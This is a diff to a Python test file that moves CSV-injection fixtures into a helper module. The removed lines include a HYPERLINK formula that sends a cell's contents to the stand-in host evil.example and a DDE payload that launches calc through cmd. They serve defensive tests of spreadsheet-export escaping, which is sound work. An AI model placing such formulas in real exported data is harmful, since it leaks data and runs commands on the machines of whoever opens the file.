@@ -21,18 +21,10 @@ from linkage.store.db import read_session
 from linkage.store.models import Buyer, Cooperative
 
 from .conftest import empty_user_tables
+from .helpers import NAMES
 
 # What Excel and LibreOffice run when a cell starts with it (OWASP "CSV injection").
 RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
-NAMES = {
-    "K1": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
-    "K2": "+1+cmd|' /C calc'!A0",
-    "K3": "-2+3",
-    "K4": "@SUM(A1:A9)",
-    "K5": "''=two quotes",
-    "K6": "'HTX có dấu nháy",
-    "K7": 'HTX Nà Phặc <b>đậm</b> & "Quê"',
-}
 
 
 @given(st.text())
